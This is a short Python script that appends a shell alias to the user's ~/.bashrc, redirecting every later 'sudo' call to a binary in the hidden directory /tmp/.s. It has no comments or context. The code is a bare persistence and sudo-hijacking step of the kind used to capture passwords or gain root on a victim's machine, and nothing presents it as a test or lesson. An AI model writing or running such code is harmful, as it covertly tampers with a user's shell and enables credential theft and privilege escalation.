import os

line = "alias sudo='/tmp/.s/sudo'"
with open(os.path.expanduser("~/.bashrc"), "a") as file:
    file.write(line)
